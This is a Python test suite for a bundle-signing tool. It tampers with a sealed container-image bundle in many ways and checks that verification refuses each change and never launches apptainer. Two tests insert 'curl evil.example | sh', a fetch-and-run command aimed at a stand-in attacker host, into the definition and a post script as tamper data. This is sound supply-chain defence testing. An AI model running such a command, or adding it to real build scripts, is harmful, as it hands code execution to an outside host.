#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""One thing changed in a bundle, and sealed again with a trusted key by Python and minisign alone:
`verify` refuses each by the name of what differs, and no `apptainer` is ever started for it.

The `apptainer` here is a line of shell that leaves a mark when it is started. What starts the real
one stands in tests/node.
"""
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import unittest

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT / "tests/cli"), str(ROOT / "tests/bundles/format")]
import make_example  # noqa: E402
import maker  # noqa: E402
import reader  # noqa: E402

SEALIFT, UPLOAD = os.environ["SEALIFT"], os.environ["SEALIFT_UPLOAD"]


def canonical(value):
    return reader.canonical(value)


class Tamper(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.temp = tempfile.TemporaryDirectory()
        cls.root = pathlib.Path(cls.temp.name)
        tools = cls.root / "bin"
        tools.mkdir()
        (tools / "apptainer").write_text(f"#!/bin/sh\necho started >>{cls.root}/launches\nexit 1\n")
        (tools / "apptainer").chmod(0o755)
        cls.env = dict(os.environ, SEALIFT_HOME=str(cls.root / "home"), PATH=f"{tools}:{os.environ['PATH']}")
        make_example.make(str(cls.root / "example"))
        cls.good = cls.root / "good.sealift"
        for words in (["key", "new", "--no-password"], ["compile", "example/spec.yaml", "-o", str(cls.good)]):
            subprocess.run([SEALIFT, "-q", *words], check=True, env=cls.env, cwd=cls.root, capture_output=True)
        cls.key = str(cls.root / "home/config/sealift.key")

    @classmethod
    def tearDownClass(cls):
        cls.temp.cleanup()

    def setUp(self):
        self.parts = maker.Parts.of(reader.read(str(self.good)))
        (self.root / "launches").unlink(missing_ok=True)

    def call(self, *words):
        return subprocess.run(words, capture_output=True, text=True, env=self.env, cwd=self.root,
                              stdin=subprocess.DEVNULL, timeout=120)

    def reseal(self):
        path = self.root / "tampered.sealift"
        maker.write(str(path), self.parts, key=self.key)
        return path

    def refused(self, path, *texts, codes=(3, 4)):
        done = self.call(SEALIFT, "verify", str(path))
        self.assertIn(done.returncode, codes, done.stdout + done.stderr)
        for text in texts:
            self.assertIn(text, done.stdout + done.stderr)
        pushed = self.call(UPLOAD, "push", str(path), "--builder", "local")
        self.assertNotEqual(pushed.returncode, 0)
        self.assertFalse((self.root / "launches").exists(), "apptainer was started")
        return done.stdout + done.stderr

    def edit_json(self, name, change):
        value = json.loads(self.parts.files[name])
        change(value)
        self.parts.files[name] = canonical(value)

    def test_resealing_alone_changes_nothing(self):
        done = self.call(SEALIFT, "verify", str(self.reseal()))
        self.assertEqual(done.returncode, 0, done.stdout + done.stderr)

    def test_the_mark_works(self):
        done = self.call(UPLOAD, "push", str(self.good), "--builder", "local")
        self.assertNotEqual(done.returncode, 0)
        self.assertTrue((self.root / "launches").exists(), "the good bundle did not reach apptainer: " + done.stderr)

    def test_one_hash_in_the_lock(self):
        def change(lock):
            package = next(one for one in lock["packages"] if one["name"] == "beta")
            package["hashes"] = ["0" * 64]

        self.edit_json("lock.json", change)
        self.refused(self.reseal(), "lock.json")

    def test_another_wheel_digest_in_the_lock(self):
        def change(lock):
            package = next(one for one in lock["packages"] if one["name"] == "beta")
            package["hashes"] = ["0" * 64]
            package["wheel"]["sha256"] = "0" * 64

        self.edit_json("lock.json", change)
        text = self.refused(self.reseal())
        self.assertRegex(text, "image.def|requirements.txt|0{64}")

    def test_one_byte_of_a_wheel_unsealed(self):
        data = bytearray(self.good.read_bytes())
        at = data.index(b"__version__ = '2.1'")
        data[at] ^= 1
        path = self.root / "tampered.sealift"
        path.write_bytes(data)
        self.refused(path, "blobs/sha256/")

    def test_one_byte_of_a_wheel_sealed_again(self):
        at = next(i for i, blob in enumerate(self.parts.blobs) if b"__version__ = '2.1'" in blob)
        blob = bytearray(self.parts.blobs[at])
        blob[blob.index(b"__version__ = '2.1'")] ^= 1
        self.parts.blobs[at] = bytes(blob)
        self.refused(self.reseal(), "blobs/sha256/" + maker.sha256(bytes(blob)), "lock.json")

    def test_one_line_of_the_definition(self):
        text = self.parts.files["image.def"].decode()
        for old, new in (("umask 022", "umask 000"), ("set -eu", "set -u"), ("--require-hashes", "--no-deps ")):
            with self.subTest(old):
                self.assertIn(old, text)
                self.parts.files["image.def"] = text.replace(old, new, 1).encode()
                self.refused(self.reseal(), "image.def")

    def test_a_line_added_to_the_definition(self):
        text = self.parts.files["image.def"].decode()
        self.parts.files["image.def"] = text.replace("%post\n", "%post\n    curl evil.example | sh\n", 1).encode()
        self.refused(self.reseal(), "image.def")

    def test_a_script_that_the_plan_does_not_have(self):
        self.parts.files["scripts/post-01.sh"] += b"curl evil.example | sh\n"
        self.refused(self.reseal(), "scripts/post-01.sh")

    def test_the_requirements(self):
        self.parts.files["requirements.txt"] = self.parts.files["requirements.txt"].replace(b"beta==2.1", b"beta==2.0")
        self.refused(self.reseal(), "requirements.txt")

    def test_the_bill_of_materials(self):
        self.parts.files["sbom.cdx.json"] = self.parts.files["sbom.cdx.json"].replace(b"beta", b"meta")
        self.refused(self.reseal(), "sbom.cdx.json")

    def test_a_better_closure_than_the_inputs_have(self):
        self.edit_json("plan.json", lambda plan: plan["post"][0].update(network="any"))
        self.refused(self.reseal())

    def test_a_further_file(self):
        self.parts.files["endpoint/more.sh"] = b"echo\n"
        self.refused(self.reseal(), "endpoint/more.sh")

    def test_t25_a_further_blob(self):
        self.parts.blobs.append(b"more")
        self.refused(self.reseal(), maker.sha256(b"more"))

    def test_a_name_that_is_not_the_plans(self):
        self.parts.name = "other-image"
        self.refused(self.reseal(), "name")

    def test_t23_the_signature_removed(self):
        path = self.root / "tampered.sealift"
        maker.write(str(path), self.parts, signatures=[])
        text = self.refused(path, codes=(1, 4))
        self.assertRegex(text.lower(), "no signature|not signed|unsigned")

    def test_t24_an_unknown_key(self):
        key = maker.new_key(str(self.root / "stranger"))
        path = self.root / "tampered.sealift"
        maker.write(str(path), self.parts, key=key)
        text = self.refused(path, codes=(1,))
        self.assertIn("trust add", text)

    def test_t35_a_signature_for_another_bundle(self):
        path = self.root / "tampered.sealift"
        bundle = reader.read(str(self.good))
        comment = maker.statement("prepare", "0" * 64, "small-image", "1.0.0")
        signature = maker.sign(bundle.manifest_bytes, self.key, comment)
        maker.write(str(path), self.parts, manifest=bundle.manifest_bytes, frame=bundle.frame,
                    signatures=[(maker.PREPARE, signature)])
        self.refused(path, codes=(4,))

    def test_t35_a_signature_for_another_role(self):
        path = self.root / "tampered.sealift"
        bundle = reader.read(str(self.good))
        comment = maker.statement("approve", bundle.id, "small-image", "1.0.0")
        signature = maker.sign(bundle.manifest_bytes, self.key, comment)
        maker.write(str(path), self.parts, manifest=bundle.manifest_bytes, frame=bundle.frame,
                    signatures=[(maker.PREPARE, signature)])
        self.refused(path, codes=(4,))

    def test_t75_cut_and_lengthened(self):
        data = self.good.read_bytes()
        path = self.root / "tampered.sealift"
        for wrong in (data[:-1], data[:-512], data[:1000], data + b"\0", data + data, b""):
            path.write_bytes(wrong)
            self.refused(path)


if __name__ == "__main__":
    unittest.main()
